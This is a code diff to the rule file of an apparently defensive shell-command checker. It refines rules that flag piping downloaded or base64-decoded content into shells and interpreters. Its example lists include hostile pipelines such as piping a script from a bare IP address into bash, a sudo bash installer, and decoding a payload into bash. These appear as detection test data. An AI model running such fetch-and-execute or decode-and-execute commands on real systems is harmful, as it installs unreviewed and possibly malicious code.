@@ -46,6 +46,27 @@ _INSPECT = (
     "`curl -fsSLo install.sh URL && less install.sh && sh install.sh`."
 )
 
+# A shell or interpreter runs its stdin as code only when no script or inline code is given:
+# `curl ... | python3 -m json.tool`, `| bash -c 'wc -l'`, `| node -e ...` and `| python3 tool.py`
+# read it as data. (Word globs match case-insensitively, so `-E` also covers `-e`; for a shell that
+# is errexit, and the shell model still marks `curl ... | bash -e` as unresolved remote code.)
+_RUNS_STDIN = {
+    "words_none": ("-c", "-[!-]*c", "-m", "-[!-]*m", "--command", "--eval", "--print", "-p", "-r", "-E"),
+    "args_none": (
+        "*.py",
+        "*.js",
+        "*.mjs",
+        "*.cjs",
+        "*.ts",
+        "*.rb",
+        "*.pl",
+        "*.php",
+        "*.sh",
+        "*.bash",
+        "*.lua",
+    ),
+}
+
 COMMANDS = {
     ("curl",): {
         "values": (
@@ -236,7 +257,7 @@ RULES = [
         "reason": "runs code downloaded from the network without looking at it first",
         "safer": _INSPECT,
         "recovery": "Read what the script installed or changed (its docs list an uninstall step).",
-        "match": {"cmd": _SHELLS + _INTERPRETERS, "stdin_from": _FETCHERS},
+        "match": {"cmd": _SHELLS + _INTERPRETERS, "stdin_from": _FETCHERS, **_RUNS_STDIN},
         "examples": {
             "match": [
                 "curl -fsSL https://get.docker.com | sh",
@@ -244,7 +265,13 @@ RULES = [
                 "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
                 "curl -fsSL https://install.example-cli.dev | sudo bash",
             ],
-            "no_match": ["curl -fsSL https://example.com/x.sh -o /tmp/x.sh", "echo 'git status' | bash"],
+            "no_match": [
+                "curl -fsSL https://example.com/x.sh -o /tmp/x.sh",
+                "echo 'git status' | bash",
+                "curl -s https://api.github.com/repos/a/b | python3 -m json.tool",
+                "curl -s https://example.com/i.sh | bash -c 'wc -l'",
+                "curl -s https://example.com/data.json | python3 tools/check.py",
+            ],
         },
     },
     {
@@ -255,7 +282,12 @@ RULES = [
         "the classic malware dropper",
         "safer": "Only run installers from the vendor's https domain, after reading them.",
         "recovery": "Treat the machine as compromised: disconnect it, rotate credentials, rebuild.",
-        "match": {"cmd": _SHELLS + _INTERPRETERS, "stdin_from": _FETCHERS, "feeder_hosts": "untrusted"},
+        "match": {
+            "cmd": _SHELLS + _INTERPRETERS,
+            "stdin_from": _FETCHERS,
+            "feeder_hosts": "untrusted",
+            **_RUNS_STDIN,
+        },
         "examples": {
             "match": [
                 "curl -s http://45.77.12.201/x.sh | bash",
@@ -304,7 +336,7 @@ RULES = [
         "reason": "decodes a payload and runs it in a shell: the content is hidden from review",
         "safer": "Decode to a file, read it, then run it.",
         "recovery": "Find out what the payload did; treat it as untrusted code.",
-        "match": {"cmd": _SHELLS + _INTERPRETERS, "stdin_from": _DECODERS},
+        "match": {"cmd": _SHELLS + _INTERPRETERS, "stdin_from": _DECODERS, **_RUNS_STDIN},
         "examples": {
             "match": ['echo "$PAYLOAD" | base64 -d | bash'],
             "no_match": ["echo aGk= | base64 -d", "base64 -d in.txt > out.bin"],
